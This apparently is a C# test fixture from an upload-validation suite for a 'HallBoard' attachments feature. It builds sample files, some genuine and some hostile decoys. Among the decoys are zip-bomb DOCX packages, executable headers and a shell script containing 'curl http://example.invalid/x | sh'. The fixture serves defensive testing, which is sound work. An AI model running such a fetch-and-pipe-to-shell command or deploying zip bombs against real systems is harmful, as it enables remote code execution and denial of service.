using System.IO.Compression;
using System.Text;

namespace HallBoard.Tests.Features.Attachments;

/// <summary>Files as a hall's staff would upload them, and files that only pretend to be such.</summary>
public static class SampleFiles
{
    /// <summary>A real 1×1 PNG.</summary>
    public static byte[] Png { get; } = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    public static byte[] Pdf { get; } = Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n" +
        "trailer<</Root 1 0 R>>\n%%EOF\n");

    public static byte[] Docx { get; } = Package(("word/document.xml",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">" +
        "<w:body><w:p><w:r><w:t>发票打印机故障处理记录</w:t></w:r></w:p></w:body></w:document>"));

    /// <summary>A .docx whose one extra part inflates from a few dozen KB to 60 MB of zeros.</summary>
    public static byte[] ZipBombDocx() => Package(("word/document.xml", "<w:document/>"), ("word/media/image1.png", new byte[60 * 1024 * 1024]));

    /// <summary>A .docx under the 50 MB unpacked cap whose 20 MB part of zeros packs a thousandfold: refused by its ratio.</summary>
    public static byte[] DenseDocx() => Package(("word/document.xml", "<w:document/>"), ("word/media/image1.png", new byte[20 * 1024 * 1024]));

    /// <summary>A .docx-shaped zip without the parts of an Office document.</summary>
    public static byte[] PlainZip { get; } = Package(("readme.txt", "只是一个压缩包"));

    /// <summary>The start of a 64-bit Linux program.</summary>
    public static byte[] Elf { get; } = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0, 1, 0, 0, 0];

    /// <summary>The start of a Windows program ("MZ", the DOS stub's text).</summary>
    public static byte[] Pe { get; } = [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0, .. "This program cannot be run in DOS mode."u8];

    public static byte[] Script { get; } = Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://example.invalid/x | sh\n");

    public static byte[] Utf8Text { get; } = Encoding.UTF8.GetBytes("打印机型号：HP M404\n驱动版本：48.5\n");

    /// <summary>"发票" in GB18030: not UTF-8.</summary>
    public static byte[] Gb18030Text { get; } = [0xB7, 0xA2, 0xC6, 0xB1, 0x0A];

    /// <summary>A PNG header followed by padding, <paramref name="size"/> bytes in all.</summary>
    public static byte[] PngOfSize(long size)
    {
        var bytes = new byte[size];
        Png.CopyTo(bytes, 0);
        return bytes;
    }

    private static byte[] Package(params (string Name, object Content)[] parts)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            var all = new List<(string, object)> { ("[Content_Types].xml",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>") };
            all.AddRange(parts);
            foreach (var (name, content) in all)
            {
                var entry = zip.CreateEntry(name, CompressionLevel.SmallestSize);
                using var s = entry.Open();
                s.Write(content is string text ? Encoding.UTF8.GetBytes(text) : (byte[])content);
            }
        }
        return stream.ToArray();
    }
}
